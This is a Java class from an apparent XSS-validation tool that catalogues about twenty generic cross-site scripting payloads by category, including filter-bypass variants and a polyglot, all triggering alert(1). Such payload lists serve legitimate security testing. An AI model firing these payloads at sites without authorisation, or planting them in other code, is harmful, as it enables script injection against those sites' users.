package com.xssvalidator.payload;

import java.util.List;

/**
 * Fixed, ordered set of generic payloads appended after the context-specific ones for
 * every attack. Shared read-only.
 */
public final class PayloadCatalog {

    public static final String BASIC = "basic";
    public static final String JAVASCRIPT_URI = "javascript_uri";
    public static final String EVENT_HANDLER = "event_handler";
    public static final String TAG_BREAKING = "tag_breaking";
    public static final String FILTER_BYPASS_CASE = "filter_bypass_case";
    public static final String FILTER_BYPASS_ENCODING = "filter_bypass_encoding";
    public static final String FILTER_BYPASS_NESTING = "filter_bypass_nesting";
    public static final String ADVANCED_TAGS = "advanced_tags";
    public static final String POLYGLOT = "polyglot";

    private static final List<PayloadSpec> PAYLOADS = List.of(
            new PayloadSpec("<script>alert(1)</script>", BASIC, 1),
            new PayloadSpec("<img src=x onerror=alert(1)>", BASIC, 1),
            new PayloadSpec("<svg onload=alert(1)>", BASIC, 1),

            new PayloadSpec("javascript:alert(1)", JAVASCRIPT_URI, 2),
            new PayloadSpec("JaVaScRiPt:alert(1)", JAVASCRIPT_URI, 2),

            new PayloadSpec("\" onmouseover=\"alert(1)", EVENT_HANDLER, 2),
            new PayloadSpec("' onmouseover='alert(1)", EVENT_HANDLER, 2),

            new PayloadSpec("\"><script>alert(1)</script>", TAG_BREAKING, 3),
            new PayloadSpec("'><script>alert(1)</script>", TAG_BREAKING, 3),
            new PayloadSpec("</title><script>alert(1)</script>", TAG_BREAKING, 3),

            new PayloadSpec("<ScRiPt>alert(1)</ScRiPt>", FILTER_BYPASS_CASE, 4),
            new PayloadSpec("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", FILTER_BYPASS_ENCODING, 4),
            new PayloadSpec("%3Cscript%3Ealert(1)%3C/script%3E", FILTER_BYPASS_ENCODING, 4),
            new PayloadSpec("<scr<script>ipt>alert(1)</scr</script>ipt>", FILTER_BYPASS_NESTING, 4),

            new PayloadSpec("<iframe src=\"javascript:alert(1)\"></iframe>", ADVANCED_TAGS, 5),
            new PayloadSpec("<object data=\"javascript:alert(1)\"></object>", ADVANCED_TAGS, 5),
            new PayloadSpec("<embed src=\"javascript:alert(1)\">", ADVANCED_TAGS, 5),

            new PayloadSpec("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
                    + "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
                    POLYGLOT, 6)
    );

    private PayloadCatalog() {}

    /** All catalog payloads in emission order. */
    public static List<PayloadSpec> all() {
        return PAYLOADS;
    }

    public static int size() {
        return PAYLOADS.size();
    }
}
